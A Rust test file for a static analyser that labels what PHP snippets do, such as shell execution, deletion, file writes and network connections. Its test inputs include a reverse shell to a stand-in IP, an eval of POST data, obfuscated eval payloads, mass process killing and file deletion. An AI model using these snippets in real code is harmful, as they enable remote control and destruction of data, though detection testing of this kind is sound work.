//! Texts of PHP.

use crate::table::{check, lines};
use checkrein_code::Language;

#[test]
fn acts_and_mentions() {
    check(
        Language::Php,
        &[
            ("system('ls -l');", &["shell ls -l"]),
            ("echo `ls $x`;", &["shell ls «?»"]),
            ("SHELL_EXEC(\"ls {$x['a']}/b\");", &["shell ls «?»/b"]),
            ("$f = 'sys' . 'tem'; $f('ls');", &["shell ls"]),
            ("call_user_func('system', 'ls');", &["shell ls"]),
            ("(new ReflectionFunction('system'))->invoke('ls');", &["shell ls"]),
            ("(new ReflectionFunction('strlen'))->invoke('ls -l');", &[]),
            ("require 'lib/job.php';", &["run php | lib/job.php"]),
            ("foreach (scandir('/proc') as $p) { posix_kill((int)$p, 9); }", &["kill listed"]),
            ("array_map('unlink', glob('/x/*'));", &["delete /x/«*»"]),
            ("foreach (glob('/x/*') as $f) { unlink($f); }", &["delete /x/«*»"]),
            ("rmdir(getenv('HOME') . '/x');", &["delete «home»/x"]),
            (
                "file_put_contents('/x', 'y'); file_put_contents('/z', 'y', FILE_APPEND);",
                &["write /x", "fill /x : y", "append /z", "fill /z : y"],
            ),
            (
                "fopen('/x', 'w'); file_get_contents('/y'); copy('a', 'b'); chmod('c', 0755);",
                &["write /x", "read /y", "copy a | b", "mode 755 c"],
            ),
            ("eval(base64_decode('c3lzdGVtKCJscyIpOw=='));", &["shell ls"]),
            ("eval(str_rot13('flfgrz(\"yf\");'));", &["shell ls"]),
            ("eval(gzinflate(base64_decode('abcd')));", &["evaluate decoded"]),
            ("eval($_POST['x']);", &["evaluate network"]),
            ("eval(file_get_contents('http://h/x'));", &["connect http://h/x", "evaluate network"]),
            (
                "$s=fsockopen('192.0.2.1',9001);exec('/bin/sh -i <&3');",
                &["connect 192.0.2.1:9001", "shell /bin/sh -i <&3"],
            ),
            ("<p>system('a')</p><?php system('b'); ?>unlink('c')<?= `d` ?>", &["shell b", "shell d"]),
            ("function f($p) { unlink($p); } f('/q');", &["delete /q"]),
            ("posix_kill(1, 9);", &["kill"]),
            (
                "$pdo->exec('delete from t'); mysqli_query($c, 'drop table t');",
                &["query delete from t", "query drop table t"],
            ),
        ],
    );
    for source in [
        "echo 'rm -rf /';",
        "// system('ls');\n# system('ls')\n/* system('ls') */",
        "$o = json_decode($argn); print json_encode($o, JSON_PRETTY_PRINT);",
        "while (true) { echo \"a\"; }",
        "preg_replace('/system\\(/', 'x', $y);",
        "$x->system('ls');",
    ] {
        assert_eq!(lines(Language::Php, source), [""; 0], "{source}");
    }
}
